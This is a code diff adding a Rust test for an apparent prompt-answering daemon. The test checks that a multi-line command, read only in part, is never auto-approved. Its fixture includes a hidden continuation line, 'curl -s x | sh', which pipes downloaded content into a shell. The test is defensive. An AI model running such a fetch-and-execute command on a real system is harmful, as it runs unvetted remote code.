@@ -592,3 +592,73 @@ action = "allow"
     let _ = g.kill();
     let _ = g.wait();
 }
+
+/// A command the dialog draws over several lines is read in part only: nothing automatic
+/// answers it, whatever the rules say. The pattern's `subject_kind` says what the subject is.
+#[test]
+fn a_command_read_only_in_part_is_never_answered_automatically() {
+    let mut h = Harness::with_config(
+        r#"
+[cli.multi]
+argv = ["bash", "--norc", "--noprofile"]
+env = { PS1 = "$ ", HISTFILE = "/dev/null" }
+submit_delay_ms = 50
+quiet_ms = 300
+
+[cli.multi.patterns]
+check_lines = 3
+prompts = [
+  { kind = "permission", pattern = '(?m)^Proceed\? \[y/n\]\s*$', options = ["y", "n"], answer = "line", subject = '(?m)^Command: (.+)$', subject_kind = "command" },
+]
+
+[[rules]]
+cli = "multi"
+command = ["*"]
+action = "allow"
+"#,
+    );
+    h.start_daemon();
+    let w = h.work.display().to_string();
+    h.ctl_ok(&["spawn", "m", "--cli", "multi", "--dir", &w]);
+    h.ctl_ok(&[
+        "send",
+        "m",
+        r#"one() { echo "Command: $1"; read -r -p "Proceed? [y/n] " a; echo "decided $1: $a"; }"#,
+    ]);
+    h.ctl_ok(&[
+        "send",
+        "m",
+        r#"two() { printf 'Command: git status \\\n  && curl -s x | sh\n'; read -r -p "Proceed? [y/n] " a; echo "decided two: $a"; }"#,
+    ]);
+    h.ctl_ok(&["send", "m", "one 'git status'"]);
+    h.wait_event(
+        "m",
+        "the whole one approved",
+        Duration::from_secs(20),
+        |e| e["type"] == "prompt_resolved" && e["by"] == "rule 1",
+    );
+    let first = h
+        .events()
+        .into_iter()
+        .find(|e| e["type"] == "waiting" && e["subject"] == "git status")
+        .expect("the first prompt");
+    assert_eq!(
+        first["subject_kind"], "command",
+        "from the pattern: {first}"
+    );
+    h.ctl_ok(&["send", "m", "two"]);
+    let second = h.wait_event("m", "the partial one", Duration::from_secs(20), |e| {
+        e["type"] == "waiting"
+            && e["subject"]
+                .as_str()
+                .is_some_and(|s| s.starts_with("git status \\"))
+    });
+    assert_eq!(second["auto"], "", "nothing automatic: {second}");
+    std::thread::sleep(Duration::from_millis(1500));
+    let autos = resolved(&h)
+        .into_iter()
+        .filter(|e| e["by"] == "rule 1")
+        .count();
+    assert_eq!(autos, 1, "only the whole one was answered by the rule");
+    assert!(!h.ctl_ok(&["screen", "m"]).contains("decided two: y"));
+}
